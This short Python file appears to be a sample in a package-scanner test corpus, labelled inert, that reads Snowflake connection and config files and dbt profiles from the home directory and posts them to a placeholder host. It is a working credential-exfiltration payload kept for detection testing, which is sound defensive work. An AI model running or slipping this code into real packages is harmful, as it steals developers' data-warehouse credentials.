# pkgguard corpus 643 (credentials), modelled on [developer-persistence]; inert, never run.
import pathlib

import requests

home = pathlib.Path.home()
bundle = {}
for rel in (".snowflake/connections.toml", ".snowflake/config.toml", ".dbt/profiles.yml"):
    path = home / rel
    if path.is_file():
        bundle[rel] = path.read_text(errors="ignore")
if bundle:
    requests.post("https://warehouse-lint.example/p", json=bundle, timeout=15)
